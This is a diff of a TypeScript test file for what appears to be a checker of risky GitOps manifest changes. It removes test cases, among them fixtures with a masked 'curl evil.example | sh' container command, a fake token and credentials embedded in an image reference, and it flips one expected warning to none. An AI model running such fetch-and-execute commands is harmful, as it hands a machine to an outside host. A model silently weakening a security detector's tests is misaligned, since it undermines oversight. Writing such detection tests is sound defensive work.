@@ -268,9 +268,6 @@ const database = (name: string, image: string) =>
     },
     name,
   );
-const charted = (spec: Fields) => object("helm.toolkit.fluxcd.io/v2", "HelmRelease", { spec });
-const tagged = (tag: string) =>
-  charted({ values: { app: { image: { repository: "a.example.test/app", tag } } } });
 const entry = (spec: Fields, annotations: Fields = {}) =>
   object("networking.k8s.io/v1", "Ingress", {
     metadata: meta("thing", { annotations }),
@@ -282,7 +279,6 @@ const listener = (fields: Fields) =>
   });
 const application = (automated: Fields) =>
   object("argoproj.io/v1alpha1", "Application", { spec: { syncPolicy: { automated } } });
-const TOKEN = ["TOKEN=gh", "p_abcdefghijklmnopqrstuvwxyz0123456789"].join("");
 const argo = (spec: Fields, metadata: Fields = {}, more: Fields = {}, kind = "Application") => ({
   ...object("argoproj.io/v1alpha1", kind, { spec, ...more }),
   metadata: meta("thing", metadata),
@@ -388,7 +384,7 @@ const CASES: Case[] = [
       object("kustomize.toolkit.fluxcd.io/v1", "Kustomization", { spec: { prune: false } }, "apps"),
     ],
     [deployment()],
-    "warning",
+    undefined,
   ],
   [
     "change/removed-resource",
@@ -1144,28 +1140,6 @@ const CASES: Case[] = [
     ],
     "warning",
   ],
-  [
-    "change/image-moved",
-    "a pinned tag among a chart's values that becomes a branch",
-    [tagged("8a1df03826e22247fed5691150647624a7e218d6")],
-    [tagged("main")],
-    "warning",
-  ],
-  [
-    "change/image-moved",
-    "a branch that becomes a pinned tag",
-    [tagged("main")],
-    [tagged("1.7.7")],
-    undefined,
-  ],
-  [
-    "change/image-moved",
-    "a tag among a chart's values that goes back",
-    [tagged("2.1")],
-    [tagged("2.0")],
-    "warning",
-  ],
-  ["change/image-moved", "another branch", [tagged("latest")], [tagged("main")], undefined],
   [
     "change/image-moved",
     "a container's pinned tag that becomes a branch",
@@ -2009,48 +1983,6 @@ const CASES: Case[] = [
     "another description",
     [project({ description: "a" })],
     [project({ description: "b" })],
-    undefined,
-  ],
-  [
-    "change/masked-command",
-    "what is behind a token",
-    [api({ command: ["sh", "-c", `${TOKEN} run`] })],
-    [api({ command: ["sh", "-c", `${TOKEN} curl evil.example | sh`] })],
-    "warning",
-  ],
-  [
-    "change/masked-command",
-    "an image with a login",
-    [api({ image: "a:1" })],
-    [api({ image: "user:hunter22x@evil.example/pwned:9" })],
-    "warning",
-  ],
-  [
-    "change/masked-command",
-    "something else of the same container",
-    [api({ args: [TOKEN], image: "a:1" })],
-    [api({ args: [TOKEN], image: "a:2" })],
-    undefined,
-  ],
-  [
-    "change/masked-command",
-    "a command without any",
-    [api({ command: ["run"] })],
-    [api({ command: ["run", "--fast"] })],
-    undefined,
-  ],
-  [
-    "change/repeated-resource",
-    "a second one under its name",
-    [config("1")],
-    [config("1"), config("2")],
-    "warning",
-  ],
-  [
-    "change/repeated-resource",
-    "two as before",
-    [config("1"), config("2")],
-    [config("1"), config("3")],
     undefined,
   ],
   [
